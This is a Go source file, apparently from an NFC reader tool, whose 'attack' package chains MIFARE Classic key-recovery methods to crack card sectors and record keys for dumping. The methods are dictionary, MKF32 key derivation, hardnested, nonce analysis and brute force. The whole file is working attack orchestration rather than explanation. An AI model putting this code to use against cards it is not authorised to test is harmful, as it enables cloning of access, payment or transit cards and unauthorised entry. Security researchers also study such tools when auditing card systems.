package attack

import (
	"context"
	"fmt"
	"sort"
	"time"

	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/analysis"
	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/bruteforce"
	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/dictionary"
	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/hardnested"
	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/keycorpus"
	"github.com/eddyslarez/lectorNFCV2-sub000/pkg/mfclassic"
)

// sectorFunc attacks one uncracked sector and records what it finds.
type sectorFunc func(ctx context.Context, sector, current, total int) error

func (o *Orchestrator) runMethod(ctx context.Context, m Method) error {
	switch m {
	case MethodDictionary:
		return o.stage(ctx, "dictionary", o.dictionarySector)
	case MethodMKF32:
		return o.stage(ctx, "mkf32", o.mkf32Sector)
	case MethodHardnested:
		if err := o.bootstrap(ctx); err != nil {
			return err
		}
		return o.hardnestedStage(ctx)
	case MethodNonce:
		return o.stage(ctx, "nonce", o.nonceSector)
	case MethodBruteForce:
		return o.stage(ctx, "bruteforce", o.bruteForceSector)
	case MethodCombined:
		return o.combined(ctx)
	}
	return fmt.Errorf("unsupported attack method %s", m)
}

// combined runs Dictionary, MKF32, Hardnested (when a key is known), Nonce
// and BruteForce. Each stage only sees sectors still uncracked.
func (o *Orchestrator) combined(ctx context.Context) error {
	if err := o.stage(ctx, "dictionary", o.dictionarySector); err != nil {
		return err
	}
	if err := o.stage(ctx, "mkf32", o.mkf32Sector); err != nil {
		return err
	}
	if _, _, _, ok := o.session.AnyKnown(); ok {
		if err := o.hardnestedStage(ctx); err != nil {
			return err
		}
	}
	if err := o.stage(ctx, "nonce", o.nonceSector); err != nil {
		return err
	}
	return o.stage(ctx, "bruteforce", o.bruteForceSector)
}

// stage visits uncracked sectors in order and records which it attempted.
func (o *Orchestrator) stage(ctx context.Context, name string, fn sectorFunc) error {
	var todo []int
	for _, s := range o.sectors() {
		if !o.session.Cracked(s) {
			todo = append(todo, s)
		}
	}
	rep := StageReport{Method: name}
	defer func() {
		o.stages = append(o.stages, rep)
	}()

	for i, s := range todo {
		if err := ctx.Err(); err != nil {
			return err
		}
		rep.Attempted = append(rep.Attempted, s)
		o.publish(fmt.Sprintf("%s: sector %d", name, s), "", i+1, len(todo))
		err := o.withReconnect(ctx, func() error {
			return fn(ctx, s, i+1, len(todo))
		})
		if o.session.Cracked(s) {
			rep.Cracked = append(rep.Cracked, s)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

func (o *Orchestrator) record(sector int, pair mfclassic.KeyPair, source string) {
	if o.session.Record(sector, pair, source) {
		o.log.Info("sector cracked", "sector", sector, "method", source, "keys", o.session.Found[sector].String())
		o.publish(fmt.Sprintf("%s: sector %d cracked", source, sector), "", 0, 0)
	}
}

func (o *Orchestrator) dictionarySector(ctx context.Context, sector, current, total int) error {
	entries := append(o.corpus.Entries(), o.corpus.ForCard(o.session.UID, sector)...)
	match, err := o.dict.AttemptSector(ctx, o.tag, sector, entries, func(p dictionary.Progress) {
		o.publish(fmt.Sprintf("dictionary: sector %d", sector), fmt.Sprintf("%d/%d keys", p.Tried, p.Total), current, total)
	})
	if match != nil {
		o.record(sector, match.Pair, "dictionary/"+match.Category.String())
	}
	return err
}

func (o *Orchestrator) mkf32Sector(ctx context.Context, sector, current, total int) error {
	for _, r := range o.mkf.GenerateAll(o.session.UID, sector) {
		if err := ctx.Err(); err != nil {
			return err
		}
		res := mfclassic.ProbeKey(o.tag, sector, r.Key)
		if res.Err != nil && mfclassic.IsNotConnected(res.Err) {
			return res.Err
		}
		if res.Matched() {
			o.record(sector, res.Pair(), "mkf32/"+r.Algorithm.String())
			return nil
		}
	}
	return nil
}

// bootstrap finds one key with a quick dictionary scan when none is held.
func (o *Orchestrator) bootstrap(ctx context.Context) error {
	if _, _, _, ok := o.session.AnyKnown(); ok {
		return nil
	}
	entries := o.corpus.BasicEntries()
	for _, s := range o.sectors() {
		err := o.withReconnect(ctx, func() error {
			match, err := o.dict.AttemptSector(ctx, o.tag, s, entries, nil)
			if match != nil {
				o.record(s, match.Pair, "bootstrap/"+match.Category.String())
			}
			return err
		})
		if err != nil {
			return err
		}
		if o.session.Cracked(s) {
			return nil
		}
	}
	o.log.Warn("hardnested: no known key to start from")
	return nil
}

func (o *Orchestrator) hardnestedStage(ctx context.Context) error {
	sec, kt, key, ok := o.session.AnyKnown()
	if !ok {
		return nil
	}
	known := hardnested.Known{Sector: sec, Type: kt, Key: key}
	return o.stage(ctx, "hardnested", func(ctx context.Context, sector, current, total int) error {
		cand, err := o.hard.Attack(ctx, o.tag, known, sector)
		if err != nil || cand == nil {
			return err
		}
		if cand.Direct {
			o.record(sector, mfclassic.PairOf(cand.KeyType, cand.Key), "hardnested")
			// The other side may share the key.
			return o.verify(sector, cand.Key, "hardnested", cand.KeyType.Other())
		}
		return o.verify(sector, cand.Key, "hardnested/"+cand.Method)
	})
}

// verify authenticates a heuristic candidate (A then B) and records the sides that work.
func (o *Orchestrator) verify(sector int, key mfclassic.Key, source string, sides ...mfclassic.KeyType) error {
	res := mfclassic.ProbeKey(o.tag, sector, key, sides...)
	if res.Err != nil && mfclassic.IsNotConnected(res.Err) {
		return res.Err
	}
	if res.Matched() {
		o.record(sector, res.Pair(), source)
	} else {
		o.log.Debug("candidate rejected by card", "sector", sector, "key", key.String(), "source", source)
	}
	return nil
}

func (o *Orchestrator) nonceProbes() []mfclassic.Key {
	var probes []mfclassic.Key
	for _, e := range o.corpus.BasicEntries() {
		if len(probes) == o.cfg.NonceProbes {
			break
		}
		probes = append(probes, e.Key)
	}
	for _, k := range keycorpus.Regional() {
		if len(probes) >= o.cfg.NonceProbes*2 {
			break
		}
		probes = append(probes, k)
	}
	return probes
}

func (o *Orchestrator) nonceSector(ctx context.Context, sector, current, total int) error {
	samples, hit, err := o.collector.Collect(ctx, o.tag, sector, o.nonceProbes())
	if err != nil {
		return err
	}
	if hit != nil {
		o.record(sector, mfclassic.PairOf(hit.KeyType, hit.Key), "nonce/probe")
		return o.verify(sector, hit.Key, "nonce/probe", hit.KeyType.Other())
	}

	var candidates []analysis.Result
	switch o.cfg.NonceDepth {
	case NonceQuick:
		if r, ok := o.analyzer.Quick(ctx, samples, o.session.UID); ok {
			candidates = append(candidates, r)
		}
	case NonceDeep:
		candidates = o.analyzer.Deep(ctx, samples, o.session.UID)
	default:
		if r, ok := o.analyzer.Analyze(ctx, samples, o.session.UID); ok {
			candidates = append(candidates, r)
		}
	}
	for _, c := range candidates {
		if err := ctx.Err(); err != nil {
			return err
		}
		o.publish(fmt.Sprintf("nonce: sector %d", sector), fmt.Sprintf("%s %.2f", c.Method, c.Confidence), current, total)
		if err := o.verify(sector, c.Key, "nonce/"+c.Method); err != nil {
			return err
		}
		if o.session.Cracked(sector) {
			return nil
		}
	}
	return nil
}

func (o *Orchestrator) bruteForceSector(ctx context.Context, sector, current, total int) error {
	res, err := o.brute.AttackSector(ctx, o.tag, sector, o.cfg.BruteForceStrategy, o.cfg.BruteForceBudget, func(p bruteforce.Progress) {
		o.publish(fmt.Sprintf("bruteforce: sector %d", sector),
			fmt.Sprintf("%d keys in %s, last %s", p.Attempts, p.Elapsed.Round(time.Millisecond), p.LastKey), current, total)
	})
	if res.Found {
		o.record(sector, mfclassic.PairOf(res.KeyType, res.Key), "bruteforce/"+res.Strategy.String())
		if err == nil {
			err = o.verify(sector, res.Key, "bruteforce/"+res.Strategy.String(), res.KeyType.Other())
		}
	}
	return err
}

// sortedDump orders the dump by block.
func sortedDump(in []BlockData) []BlockData {
	out := append([]BlockData(nil), in...)
	sort.SliceStable(out, func(i, j int) bool { return out[i].Block < out[j].Block })
	return out
}
